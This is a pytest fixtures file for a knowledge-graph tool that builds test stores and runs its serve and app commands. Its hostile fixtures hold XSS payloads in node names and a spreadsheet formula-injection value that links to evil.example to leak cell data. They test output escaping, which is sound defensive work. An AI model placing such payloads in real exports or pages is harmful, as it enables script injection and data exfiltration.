"""Shared fixtures: real stores built in temporary folders, and the shared data.

Every test talks to the real embedded database (ArcadeDB in this process,
reached over Bolt by the official driver); nothing is mocked.
"""
from __future__ import annotations

import contextlib
import importlib.util
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

TESTS = Path(__file__).resolve().parent
FIXTURES = TESTS / "fixtures"
SHARED = TESTS.parent.parent / "shared"

# Every command in the suite starts its own engine, as with HTKG_SERVER=off, so
# that no test leaves a background server behind and each test's store is read
# as it was opened. The tests of the shared server (tests/test_background.py)
# turn it on for themselves, with records in a folder of their own.
os.environ["HTKG_SERVER"] = "off"


def shared_path(*parts: str) -> Path:
    """A path under ../shared, or skip the test with the reason it is absent."""
    path = SHARED.joinpath(*parts)
    if not path.exists():
        pytest.skip(f"{path} is absent: the team's shared data is not beside this checkout")
    return path


@pytest.fixture(scope="session", autouse=True)
def _work_in_a_temporary_directory(tmp_path_factory):
    """Run every test from a scratch directory, so files a command writes to its
    working directory by default (the build's overview map) never land in the checkout."""
    before = os.getcwd()
    os.chdir(tmp_path_factory.mktemp("cwd"))
    yield
    os.chdir(before)


@pytest.fixture(scope="session")
def registry_store(tmp_path_factory) -> str:
    """An embedded store of the bundled registry and reference data (no figures)."""
    import htkg
    db = tmp_path_factory.mktemp("registry-store")
    htkg.build([], str(db), figures=False)
    return str(db)


@pytest.fixture(scope="session")
def default_build(tmp_path_factory) -> tuple[str, str, Path]:
    """`htkg build` as a new user runs it, with no paths: the bundled registry, reference
    data and figures. (store, what it printed, its overview map)"""
    from click.testing import CliRunner
    from htkg.cli import main
    work = tmp_path_factory.mktemp("default-build")
    result = CliRunner().invoke(main, ["build", "--db", str(work / "store"),
                                       "--map", str(work / "overview.html")])
    assert result.exit_code == 0, result.output
    return str(work / "store"), result.output, work / "overview.html"


@pytest.fixture(scope="session")
def formula_store(tmp_path_factory) -> str:
    """An embedded store of the bundled registry and fixtures/hostile/formula-bodies.yaml:
    names that start like spreadsheet formulas, aliases holding every array delimiter."""
    from click.testing import CliRunner
    from htkg.cli import main
    db = tmp_path_factory.mktemp("formula-store") / "store"
    result = CliRunner().invoke(main, ["build", str(FIXTURES / "hostile" / "formula-bodies.yaml"),
                                       "--db", str(db), "--no-map",
                                       "--no-figures"])
    assert result.exit_code == 0, result.output
    return str(db)


@contextlib.contextmanager
def serving(db: Path, cache: Path, *options: str, env: dict | None = None):
    """`htkg serve` on ``db`` (with more ``options`` and ``env``) in a separate
    process; yields its connection details."""
    env = {**os.environ, "XDG_CACHE_HOME": str(cache), **(env or {})}
    proc = subprocess.Popen([sys.executable, "-m", "htkg.cli", "serve", "--db", str(db), *options],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    try:
        line = proc.stdout.readline()
        if not line:
            pytest.fail(f"htkg serve did not start: {proc.stderr.read()}")
        yield json.loads(line)
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            proc.kill()


@pytest.fixture(scope="session")
def serve_store():
    """``serve_store(db, cache_dir)``: a context manager serving a store over Bolt."""
    return serving


@pytest.fixture(scope="session")
def bolt_server(tmp_path_factory):
    """The embedded store served over Bolt by a separate process (`htkg serve`)."""
    with serving(tmp_path_factory.mktemp("bolt-store"), tmp_path_factory.mktemp("cache")) as info:
        yield info


@pytest.fixture
def bolt_env(bolt_server, monkeypatch):
    """Environment that points htkg at the Bolt server as if it were Neo4j."""
    monkeypatch.setenv("NEO4J_URI", bolt_server["uri"])
    monkeypatch.setenv("NEO4J_USERNAME", bolt_server["user"])
    monkeypatch.setenv("NEO4J_PASSWORD", bolt_server["password"])
    monkeypatch.setenv("NEO4J_DATABASE", bolt_server["database"])
    return bolt_server


@pytest.fixture(scope="session")
def shared():
    """``shared("seeds", "x.txt")``: a path under ../shared, or skip with the reason."""
    return shared_path


# -- the stores of the report tests (test_reports.py, test_reports_browser.py) -----------------
def _query_graph():
    """tests/fixtures/query_graph.py: the saved-query tests' graph with known answers."""
    spec = importlib.util.spec_from_file_location("query_graph", FIXTURES / "query_graph.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def report_records() -> list:
    """The query tests' graph, with Niger linked to a UK body but never referred, and Chad
    known by name only."""
    from htkg.graph.records import Edge
    from htkg.loaders.registry import country_records
    graph = _query_graph()
    return (graph.records() + [c for c in country_records() if c.props["iso2"] == "TD"]
            + [Edge("ACTIVE_IN", "kalayaan", "country-ne", {}, graph.reg(300))])


def hostile_records() -> list:
    """The same graph, with a body, a programme and an exploitation type named in markup."""
    from htkg.graph.records import Edge, Node, provenance
    src = provenance("registry", "fixture/hostile.yaml", 1)
    return _query_graph().records() + [
        Node("Organisation", "hostile-img", {"name": "<img src=x onerror=window.__pwned=1>",
                                             "kind": "ngo", "nation": ["GB-SCT"]}, src),
        Node("Initiative", "hostile-programme", {"name": "<script>window.__pwned=3</script>"},
             src),
        Edge("ACTIVE_IN", "hostile-img", "country-ng", {}, src),
        Edge("ACTIVE_IN", "hostile-programme", "country-ng", {}, src),
        Edge("LEADS", "hostile-img", "hostile-programme", {}, src),
        Edge("REFERRED", "hostile-img", "country-ng", {
            "year": 2023, "quarter": 4, "exploitation": "<svg onload=window.__pwned=2>",
            "nationality": "Nigerian", "people": 5},
            provenance("nrm", "nrm_referrals_ngo_2023_q4.csv", 99)),
    ]


def _report_store(tmp_path_factory, name: str, records: list) -> str:
    from htkg.graph.model import KnowledgeGraph
    from htkg.graph.writers import write_store
    kg = KnowledgeGraph()
    kg.add_all(records)
    db = tmp_path_factory.mktemp(name)
    write_store(kg, str(db))
    return str(db)


@pytest.fixture(scope="session")
def report_store(tmp_path_factory) -> str:
    """An embedded store of :func:`report_records`."""
    return _report_store(tmp_path_factory, "report-store", report_records())


@pytest.fixture(scope="session")
def hostile_report_store(tmp_path_factory) -> str:
    """An embedded store of :func:`hostile_records`."""
    return _report_store(tmp_path_factory, "hostile-report-store", hostile_records())


# -- the app's tests (test_app_http.py, test_app_browser.py) ------------------------------------
FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")'


def app_records() -> list:
    """The hostile graph, with a body whose name a spreadsheet would run as a formula,
    working in Nigeria (so it is among the rows of ``country-links -p country=Nigeria``)."""
    from htkg.graph.records import Edge, Node, provenance
    src = provenance("registry", "fixture/formula.yaml", 1)
    return hostile_records() + [
        Node("Organisation", "formula-trust", {"name": FORMULA_NAME, "kind": "ngo",
                                                "nation": ["GB-WLS"]}, src),
        Edge("ACTIVE_IN", "formula-trust", "country-ng", {}, src),
    ]


@pytest.fixture(scope="session")
def app_store(tmp_path_factory) -> str:
    """An embedded store of :func:`app_records`."""
    return _report_store(tmp_path_factory, "app-store", app_records())


@contextlib.contextmanager
def app_serving(db: str, *options: str, env: dict | None = None, cache: Path | None = None):
    """`htkg app` on ``db`` on a free loopback port, in a process of its own; yields
    (its address, the process). Stopped on every path: SIGTERM, then SIGKILL."""
    import threading
    env = {**os.environ, **({"XDG_CACHE_HOME": str(cache)} if cache else {}), **(env or {})}
    proc = subprocess.Popen([sys.executable, "-m", "htkg.cli", "app", "--db", str(db),
                             "--port", "0", *options], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, env=env)
    try:
        line: list[str] = []
        reader = threading.Thread(target=lambda: line.append(proc.stdout.readline()), daemon=True)
        reader.start()
        reader.join(180)
        if not line or "http://" not in line[0]:
            proc.kill()
            pytest.fail(f"htkg app did not start: {line} {proc.stderr.read()[-2000:]}")
        yield line[0].split("serving the graph at ", 1)[1].split(" ", 1)[0], proc
    finally:
        if proc.poll() is None:
            proc.terminate()
            try:
                proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait(timeout=30)
        for stream in (proc.stdout, proc.stderr):
            with contextlib.suppress(Exception):
                stream.close()


@pytest.fixture(scope="session")
def app_server():
    """``app_server(db, *options, env=..., cache=...)``: `htkg app` running (:func:`app_serving`)."""
    return app_serving


@pytest.fixture(scope="session")
def formula_name() -> str:
    """The name in :func:`app_records` that a spreadsheet would run as a formula."""
    return FORMULA_NAME
